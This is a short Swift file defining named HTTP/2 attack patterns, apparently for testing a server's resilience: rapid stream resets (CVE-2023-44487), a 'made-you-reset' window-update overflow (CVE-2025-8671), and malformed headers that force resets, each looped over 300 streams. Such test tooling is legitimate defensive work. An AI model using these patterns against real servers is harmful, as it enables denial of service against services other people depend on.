extension Assault {
  package static let rapidReset = Assault("rapid-reset", "opens streams and resets them (CVE-2023-44487)") {
    client, call in
    eachStream(300) { call.open(client, $0) && client.reset($0) }
  }

  package static let madeYouReset = Assault(
    "made-you-reset", "makes the server reset streams, by a window beyond 2^31-1 (CVE-2025-8671)"
  ) { client, call in
    eachStream(300) { stream in
      call.open(client, stream)
        && client.send(RawFrame.Kind.windowUpdate, stream: stream, RawFrame.number(0x7FFF_FFFF))
    }
  }

  package static let malformedRequests = Assault(
    "malformed-requests", "makes the server reset streams, by header fields that are not allowed"
  ) { client, call in
    eachStream(300) { call.open(client, $0, [("Upper", "x")]) }
  }

  /// Does something for so many streams of a client until it answers false.
  static func eachStream(_ count: UInt32, _ body: (UInt32) -> Bool) {
    for index in 0..<count {
      guard body(2 * index + 1) else { return }
    }
  }

  /// Does something so many times until it answers false.
  static func times(_ count: Int, _ body: (Int) -> Bool) {
    for index in 0..<count {
      guard body(index) else { return }
    }
  }
}
